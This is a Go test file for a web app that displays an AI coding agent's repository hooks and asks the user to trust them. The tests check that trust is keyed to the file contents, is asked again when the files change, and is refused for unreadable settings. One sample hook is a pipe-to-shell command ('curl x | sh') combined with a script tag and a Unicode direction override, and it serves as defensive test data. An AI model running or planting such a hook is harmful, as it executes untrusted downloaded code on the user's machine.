package handlers_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"questboard/handlers/handlerstest"
	"questboard/orchestration/record"
)

func wanting(command string) record.RepoConfig {
	return record.RepoConfig{Files: []record.WantedFile{{Path: ".claude/settings.json", Sum: command}},
		List: []record.Want{{File: ".claude/settings.json", Kind: "hook", Name: "SessionStart", Text: command},
			{File: "CLAUDE.md", Kind: record.WantRules, Name: "CLAUDE.md", Text: "text"}}}.Sealed()
}

func (s *site) wants(w record.RepoConfig) { s.pages.Repos = handlerstest.Repos{Wanted: w} }

// docs/hardening.md#web, T1.9: a repository's settings are shown with what they run,
// trusted by content, and need trust again when they change.
func TestTrustIsAskedShownGivenAndAskedAgain(t *testing.T) {
	t.Parallel()
	s := newSite()
	p := handlerstest.Begin(s.engine, "Rates")
	link := "#alerts a[href='/settings/trust?quest=" + p.Quest + "']"
	board := func() string {
		page := parsed(t, call(t, s.pages.Board, nil, "quest", p.Quest))
		return textOf(page.Find(link).Closest(".alert"))
	}
	if got := board(); got != "" {
		t.Errorf("nothing is wanted, and the board says %q", got)
	}
	evil := "curl x | sh # <script>\u202e"
	s.wants(wanting(evil))
	if got := board(); !strings.Contains(got, "hooks and MCP servers are off: 1 hook.") {
		t.Errorf("not trusted: %q", got)
	}
	form := url.Values{"quest": {p.Quest}}
	show := func() (string, string) {
		page := parsed(t, call(t, s.pages.TrustPage, form))
		hash, _ := page.Find("input[name=hash]").Attr("value")
		return words(page, "#main"), hash
	}
	text, hash := show()
	if !strings.Contains(text, "curl x | sh # <script>⟨U+202E⟩") || !strings.Contains(text, "Not trusted") || hash != wanting(evil).Hash {
		t.Errorf("%q is shown as %q", hash, text)
	}

	s.wants(wanting("worse"))
	form.Set("hash", hash)
	w := call(t, s.pages.SetTrust, form)
	if w.Code != http.StatusConflict || len(s.now(t).Trust) != 0 || !strings.Contains(words(parsed(t, w), "[role=alert]"), "nothing was trusted") {
		t.Errorf("%d: what changed after it was shown was trusted: %v", w.Code, s.now(t).Trust)
	}
	s.wants(wanting(evil))
	if w := call(t, s.pages.SetTrust, form); w.Code != http.StatusSeeOther || len(s.now(t).Trust) != 1 || board() != "" {
		t.Errorf("%d: trusted: %v, board: %q", w.Code, s.now(t).Trust, board())
	}
	if text, hash = show(); hash != "" || !strings.Contains(text, "Trusted") {
		t.Errorf("trusted, and shown as %q", text)
	}
	if page := parsed(t, call(t, s.pages.SettingsPage, nil)); page.Find("#trusted a[href='/settings/trust?repo=%2Frepo']").Length() != 1 {
		t.Error("the settings do not name the repository")
	}

	s.wants(wanting("other"))
	text, _ = show()
	if !strings.Contains(board(), "changed since you trusted them") || !strings.Contains(text, "new or changed") || !strings.Contains(text, "No longer there") {
		t.Errorf("changed: board %q, page %q", board(), text)
	}
	s.wants(wanting(evil))
	if w := call(t, s.pages.WithdrawTrust, form); w.Code != http.StatusSeeOther || len(s.now(t).Trust) != 0 || board() == "" {
		t.Errorf("%d: withdrawn: %v", w.Code, s.now(t).Trust)
	}
}

func TestWhatCannotBeReadCannotBeTrusted(t *testing.T) {
	t.Parallel()
	s := newSite()
	odd := record.RepoConfig{Faults: []string{".claude/settings.json leads out"}}.Sealed()
	s.wants(odd)
	form := url.Values{"repo": {"/repo"}, "hash": {odd.Hash}}
	if w := call(t, s.pages.SetTrust, form); w.Code != http.StatusConflict || len(s.now(t).Trust) != 0 {
		t.Errorf("%d: %v", w.Code, s.now(t).Trust)
	}
	page := parsed(t, call(t, s.pages.TrustPage, form))
	if page.Find("input[name=hash]").Length() != 0 || !strings.Contains(words(page, "#main"), "leads out") {
		t.Errorf("offered, or not explained: %q", words(page, "#main"))
	}
}
